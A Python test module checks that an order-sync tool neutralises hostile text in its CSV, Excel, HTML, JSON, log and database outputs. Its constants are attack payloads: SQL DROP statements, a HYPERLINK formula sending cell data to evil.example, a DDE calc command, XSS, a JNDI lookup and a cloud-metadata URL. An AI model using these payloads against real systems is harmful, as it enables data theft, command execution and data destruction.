"""One world in which every foreign text attacks somebody: terminal, page, spreadsheet, database, log. It goes its way from
the first look to the purchase order, and everything that is shown on the way is searched."""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import shlex
import sqlite3
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from security.desk import Desk, desk
from support.orders import Json, brand, item, line, order, pos, product, upc
from support.retail import ROOMY
from support.sandbox import Sandbox

SQL = "'; DROP TABLE approval; -- \"; DELETE FROM journal; --"
SHEET = '=HYPERLINK("http://evil.example/?"&A1,"open")'
DDE = "=cmd|' /C calc'!A0"
PAGE = "\"'><script>alert(1)</script><img src=x onerror=alert(2)>"
TEMPLATE = "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example} %(levelname)s %s {0}"
TERMINAL = "\x1b[31m\x1b]0;owned\x07\x1b[2J\x9b31m\x08"
LOG = "\r\n2026-01-01 00:00:00 ERROR forged entry\n\x85\u2028\u2029Traceback (most recent call last):"
BIDI = "\u202eevil\u2066\u200f"
MARKUP = "[bold red]markup[/] :bomb:"
ALL = f"{SHEET}{PAGE}{SQL}{TEMPLATE}{TERMINAL}{LOG}{BIDI}{MARKUP}"
STARTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    DDE,
)
NUMBER = f"=1001{PAGE}{SQL}{TERMINAL}{LOG}{BIDI}"
CONTROL = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]"
)
CHARACTERS_OF_A_LOG = re.compile(
    r"[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff]"
)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NEGATIVE = re.compile(r"-\d+(\.\d+)?")


def hostile_brand() -> Json:
    """Two orders of one brand: every free text attacks, and each way to begin a formula begins some cell."""
    styles = [line(f"{start}{index}", f"{start}{ALL}", sizes={f"{start}S": 1},
                   upcs={f"{start}S": upc(index) if index % 2 else None},
                   product_id=f"{index:024x}", notes=ALL)
              for index, start in enumerate(STARTS, start=1)]  # fmt: skip
    many = order(
        NUMBER, *styles, customer_po_number=ALL, rep_name=ALL, rep_email=ALL, rep_code=ALL, creator_name=ALL,
        notes=ALL, external_id=ALL, style_warnings=ALL, shipping="3",
        retailer={"retailer_name": ALL, "retailer_code": ALL, "buyer_name": ALL, "buyer_email": ALL},
    )  # fmt: skip
    few = order("1002", line("PLAIN", ALL, sizes={"M": 1}), customer_po_number=SHEET)
    products = [
        product(one["product"]["style_number"], one["product"]["color"], name=f"{start}{ALL}", brand_id=f"{start}{ALL}",
                season=ALL, category=f"{start}{ALL[:60]}", description=ALL, department=ALL,
                images=["http://169.254.169.254/latest/meta-data", ALL])
        | {"_id": one["product"]["_id"]}
        for start, one in zip(STARTS, styles, strict=True)
    ]  # fmt: skip
    products.append(product("PLAIN", ALL, name=ALL, images=[f"https://evil.example/{ALL}"]))
    return brand("Acme Outdoor", "acme", [many, few], products)


def hostile_pos() -> Json:
    """A POS whose own texts attack as well; two items share a UPC, so that there is a question to show."""
    items = [item(200 + n, upc(n), description=f"{start}{ALL}"[:250], customSku=f"{start}{ALL}"[:100])
             for n, start in enumerate(STARTS, start=1)]  # fmt: skip
    items.append(item(300, upc(1), description=f"{DDE}{ALL}"[:250]))
    return pos(items, vendors=[{"vendorID": 1, "name": "Acme Outdoor"}, {"vendorID": 2, "name": ALL[:100]}])


@dataclass
class Seen:
    """Everything that the world let somebody see."""

    desk: Desk
    folder: Path
    verbs: dict[str, str] = field(default_factory=dict)
    json: dict[str, Any] = field(default_factory=dict)
    logs: list[logging.LogRecord] = field(default_factory=list)
    ledger: list[Json] = field(default_factory=list)


class Listener(logging.Handler):
    """Keeps every record of the product's own loggers, whatever its level."""

    def __init__(self, records: list[logging.LogRecord]) -> None:
        super().__init__(logging.DEBUG)
        self._records = records

    def emit(self, record: logging.LogRecord) -> None:
        self._records.append(record)


@pytest.fixture(scope="module")
def seen(sandbox_process: Sandbox, quick_folder: Path) -> Iterator[Seen]:
    """The world has had its way: reports, decisions, an export, and all verbs on both orders."""
    folder, owner = quick_folder, hostile_brand()
    sandbox_process.reset({"nuorder": {"brands": [owner]}, "pos": hostile_pos()})
    sandbox_process.switch(**ROOMY)
    first, second = (raw["_id"] for raw in owner["orders"])
    logger = logging.getLogger("nuorder_pos")
    with desk(folder, sandbox_process, owner) as here:
        found = Seen(here, folder)
        listener, level = Listener(found.logs), logger.level
        logger.addHandler(listener)
        logger.setLevel(logging.DEBUG)
        try:
            assert len(here.reports()) == 2
            look_at(found, "waiting", first, second)
            decide(found, first, second)
            look_at(found, "decided", first, second)
        finally:
            logger.removeHandler(listener)
            logger.setLevel(level)
        found.ledger = sandbox_process.ledger("pos")
        yield found


def decide(found: Seen, first: str, second: str) -> None:
    """A refusal by the POS in hostile words, an export that succeeds, and a rejection with hostile words."""
    here = found.desk
    asked = here.json("report", first)["questions"]
    assert asked, "there is something to answer"
    answers = [word for q in asked for word in ("--line", f"{q['line']}={q['choices'][0]['value']}")]
    with sqlite3.connect(found.folder / "project.db") as database:
        database.execute(
            "INSERT INTO approval (report_hash, decision, shop, decided_by, lines, answers, comment) VALUES (?,?,?,?,?,?,?)",
            (here.json("report", first)["report_hash"], ALL, ALL, ALL, ALL, ALL, ALL),
        )
    found.verbs["approve"] = here.run(
        "approve", first, "--by", f"Mia{ALL}", "--comment", ALL, *answers
    ).output
    assert here.let_through(first).kind == "go"
    found.verbs["reject"] = here.run("reject", second, "--by", f"Mia{ALL}", "--reason", ALL).output
    assert here.let_through(second).kind == "closed"
    found.verbs["wrong order"] = here.run("report", ALL, status=1).output
    found.verbs["wrong shop"] = here.run("approve", second, "--by", "Mia", "--shop", ALL, status=None).output
    found.verbs["rematch"] = here.run("rematch", second).output


def look_at(found: Seen, when: str, *order_ids: str) -> None:
    """Every verb that shows something, in every form."""
    here, folder = found.desk, found.folder
    for name, words in {"orders": ["orders"], "links": ["links", "list"]}.items():
        found.verbs[f"{name} {when}"] = here.run(*words).output
        found.json[f"{name} {when}"] = here.run(*words, "--json").stdout
    for number, order_id in enumerate(order_ids):
        for verb in ("report", "runbook", "plan"):
            result = here.run(verb, order_id, status=None)
            found.verbs[f"{verb} {number} {when}"] = result.output
            found.json[f"{verb} {number} {when}"] = here.run(verb, order_id, "--json", status=None).stdout
        for form in ("csv", "html"):
            text = here.run("report", order_id, "--format", form).stdout
            (folder / f"report-{number}-{when}.{form}").write_text(text, encoding="utf-8")
    here.run("export-report", "--format", "xlsx", "--output", str(folder / f"all-{when}.xlsx"))
    here.run("export-report", "--format", "csv", "--output", str(folder / when))
    found.json[f"export-report {when}"] = here.run("export-report", "--json").stdout


def test_the_world_was_as_hostile_as_it_should_be_and_the_order_went_through(seen: Seen) -> None:
    rows = {row["state"]: row for row in seen.desk.json("orders")}
    assert set(rows) == {"exported", "rejected"}
    number = rows["exported"]["order_number"]
    assert number.startswith(f"=1001{PAGE}{SQL}"), "what is to be seen of it stays"
    assert number.isprintable(), "what is not to be seen was left out when it was read"
    made = [
        entry for entry in seen.ledger if entry["method"] == "POST" and entry["path"].endswith("/Order.json")
    ]
    assert len(made) == 1
    (page,) = seen.folder.glob("report-0-decided.html")
    assert "alert(1)" in page.read_text()


def test_nothing_steers_a_terminal(seen: Seen) -> None:
    assert len(seen.verbs) > 15
    for name, text in seen.verbs.items():
        assert not CONTROL.search(text), (name, CONTROL.search(text))
        assert "Traceback (most recent call last):\n" not in text, name
        assert not any(row.startswith("2026-01-01 00:00:00 ERROR") for row in text.splitlines()), name


def test_json_is_plain_and_holds_the_texts_as_they_are(seen: Seen) -> None:
    for name, text in seen.json.items():
        assert text.isascii(), name
        assert not CONTROL.search(text), name
        json.loads(text)
    report = json.loads(seen.json["report 0 waiting"])
    assert any(f"{SHEET}{PAGE}{SQL}{TEMPLATE}" in entry["name"] for entry in report["lines"])
    assert any("\x1b" in (entry["item_description"] or "") for entry in report["lines"]), "the POS's own text"


def sheets(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*.csv"))


def test_no_cell_of_a_csv_file_begins_a_formula(seen: Seen) -> None:
    assert len(sheets(seen.folder)) >= 8
    quoted = 0
    for path in sheets(seen.folder):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"))):
            for value in row:
                assert not CONTROL.search(value), (path.name, value)
                begun = value.lstrip().startswith(FORMULA) and not NEGATIVE.fullmatch(value)
                assert not begun, (path.name, value[:40])
                quoted += value.startswith("'")
    assert quoted > 100, "the attacks were there"


def test_a_csv_file_holds_no_second_row_that_somebody_smuggled_in(seen: Seen) -> None:
    for path in sheets(seen.folder):
        text = path.read_text(encoding="utf-8")
        rows = list(csv.reader(io.StringIO(text)))
        assert {len(row) for row in rows} == {len(rows[0])}, path.name
        assert len(text.splitlines()) == len(rows), path.name


def test_an_excel_file_holds_neither_formula_nor_link_nor_command(seen: Seen) -> None:
    files = sorted(seen.folder.glob("*.xlsx"))
    assert len(files) == 2
    for path in files:
        with zipfile.ZipFile(path) as book:
            names = book.namelist()
            assert not [
                n
                for n in names
                if re.search(r"externalLink|vbaProject|embeddings|sheets/_rels|connections", n)
            ]
            for name in names:
                text = book.read(name).decode("utf-8")
                if name.startswith("xl/worksheets/"):
                    assert not re.search(r"<f[ >]|<hyperlink|<dataValidation|<oleObject|ddeLink", text), name
                if name == "xl/sharedStrings.xml":
                    cells = [
                        re.sub(r"<[^>]+>", "", cell)
                        for cell in re.findall(r"<si>(.*?)</si>", text, re.DOTALL)
                    ]
                    assert not [
                        c for c in cells if c.lstrip().startswith(FORMULA) and not NEGATIVE.fullmatch(c)
                    ]
                    assert not CONTROL.search(text)
                    assert any("HYPERLINK" in cell for cell in cells), "the attacks were there"


class Page(HTMLParser):
    """The tags of a page, with their attributes, and what it shows."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.shown = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.shown += data


def test_no_page_runs_or_loads_anything(seen: Seen) -> None:
    pages = sorted(seen.folder.glob("*.html"))
    assert len(pages) == 4
    for path in pages:
        page = Page(path.read_text(encoding="utf-8"))
        names = {tag for tag, _ in page.tags}
        assert not names & {
            "script",
            "img",
            "iframe",
            "object",
            "embed",
            "link",
            "form",
            "svg",
            "base",
            "a",
        }, path.name
        for tag, attributes in page.tags:
            loud = [
                key for key in attributes if key.startswith("on") or key in ("src", "href", "style", "srcdoc")
            ]
            assert not loud, (path.name, tag, loud)
        assert not CONTROL.search(page.shown), path.name
        assert "49" not in re.findall(r"\b49\b", page.shown), "a template in a text is not carried out"
    assert "<script>alert(1)</script>" in Page((seen.folder / "report-0-waiting.html").read_text()).shown


def test_every_entry_of_the_log_is_one_line_that_nobody_forged(seen: Seen) -> None:
    assert len(seen.logs) > 20
    told = [(record.name, record.getMessage()) for record in seen.logs]
    assert any("=1001" in text for _, text in told), "the hostile order is told of"
    wrong = [(name, text) for name, text in told if CHARACTERS_OF_A_LOG.search(text)]
    assert wrong == []


def test_the_database_is_whole_and_keeps_what_was_written_as_text(seen: Seen) -> None:
    with sqlite3.connect(seen.folder / "project.db") as database:
        tables = {name for (name,) in database.execute("SELECT name FROM sqlite_master WHERE type = 'table'")}
        assert {"approval", "journal", "nuorder_order", "match_report"} <= tables
        reasons = [text for (text,) in database.execute("SELECT reason FROM approval_verdict")]
        states = [text for (text,) in database.execute("SELECT reason FROM nuorder_order")]
        kept = list(database.execute("SELECT decided_by, comment FROM approval WHERE decision LIKE '%DROP%'"))
        steps = database.execute("SELECT count(*) FROM journal").fetchone()[0]
    assert kept == [(ALL.replace("\x00", ""),) * 2]
    assert steps > 10
    for text in reasons + states:
        assert not CHARACTERS_OF_A_LOG.search(text), text


def test_a_command_that_is_offered_can_be_pasted_without_harm(seen: Seen) -> None:
    offered = [
        row.strip()
        for text in seen.verbs.values()
        for row in text.splitlines()
        if row.strip().startswith("nuorder-pos approve")
    ]
    assert offered
    for command in offered:
        words = shlex.split(command)
        assert words[:2] == ["nuorder-pos", "approve"]
        assert not set(words) & {";", "|", "&", "&&", "DROP", "alert(1)"}


def test_only_the_pos_and_nuorder_were_asked(seen: Seen) -> None:
    """No image of those addresses was fetched, and the order went without them."""
    sent = [entry for entry in seen.ledger if entry["path"].endswith("/Image.json")]
    assert sent == []
    assert "image" in seen.verbs["report 0 decided"].lower()
